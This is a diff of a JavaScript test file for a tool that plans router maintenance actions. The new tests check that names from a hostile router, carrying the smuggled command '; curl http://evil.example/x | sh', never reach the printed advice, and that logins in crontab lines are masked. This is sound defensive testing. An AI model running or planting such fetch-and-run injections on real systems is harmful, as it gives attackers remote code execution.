@@ -82,6 +82,7 @@ describe('the plan', () => {
     expect(text).toContain(
       `      kill -STOP 123
       kill -STOP 77
+      kill -STOP of what crond has running of this
       ifdown wan
       → pauses /bin/sh /usr/bin/watchcat.sh ping_reboot and lets it go on afterwards
       → pauses /usr/sbin/crond -f -c /etc/crontabs -l 5 and what it has running of this, because of “${line}” in /etc/crontabs/root, and of 1 more; lets it go on afterwards: then it runs once what was due meanwhile
@@ -126,9 +127,53 @@ describe('the plan', () => {
       planned(surveyed('timer\tmm-restart.timer', 'timer\tmodem-check.timer\t/usr/local/bin/modem-check')),
       page,
     );
-    expect(text).toContain(`  - systemctl stop mm-restart.timer
-  - systemctl stop modem-check.timer, which runs /usr/local/bin/modem-check
+    expect(text).toContain(`  - on the router: systemctl stop mm-restart.timer
+  - on the router: systemctl stop modem-check.timer, which runs /usr/local/bin/modem-check
 `);
+  });
+
+  test('advises nothing that a hostile router has put behind a name', () => {
+    const evil = '; curl http://evil.example/x | sh';
+    const text = planText(
+      planned(
+        surveyed(
+          `timer\tx.timer${evil}\t-`,
+          'timer\t--now.timer\t-',
+          `timer\tmodem-check.timer\t/root/check${evil}`,
+          `hotplug\t/etc/hotplug.d/usb/50-modem${evil}`,
+          `hotplug\t/etc/hotplug.d/iface/99-modem\t/root/reset.sh${evil}`,
+          crond,
+          `cron\t/etc/cron.d/modem${evil}\t0 4 * * * root reboot\treboot`,
+          `session\t192.0.2.7${evil}\t192.168.1.1`,
+        ),
+      ),
+      { ...page, mayCut: false },
+    );
+    expect(text).not.toContain('evil');
+    expect(text).toContain('  - on the router: systemctl stop modem-check.timer\n');
+    expect(text).toContain('  - /etc/hotplug.d/iface/99-modem, when an interface goes up or down\n');
+    // What acts is told all the same.
+    expect(text).toContain('  - a file whose name is not told, when a device comes or goes\n');
+    expect(text).toContain('because of “0 4 * * * root reboot” in a file whose name is not told;');
+  });
+
+  test('shows no login that stands in a crontab or behind a program', () => {
+    const login = `*/5 * * * * curl -u joe:sesame77 http://x/; ifup wan`;
+    const text = planText(
+      planned(
+        surveyed(
+          'watchdog\t123\t1123\t/bin/sh /usr/bin/watchcat.sh --password sesame88 wan',
+          // Cut in the middle of the secret, nobody could tell any more that it is one.
+          'watchdog\t124\t1124\t/bin/sh /usr/bin/watchcat.sh http://joe:sesame99@192.168.8.1/',
+          crond,
+          `cron\t/etc/crontabs/root\t${login}\tifup wan`,
+        ),
+      ),
+      page,
+    );
+    expect(text).toContain('watchcat.sh --password <hid');
+    expect(text).toContain('“*/5 * * * * curl -u <hidden>:<hidden> http://x/; ifup wan”');
+    expect(text).not.toMatch(/joe|sesame/);
   });
 });
 
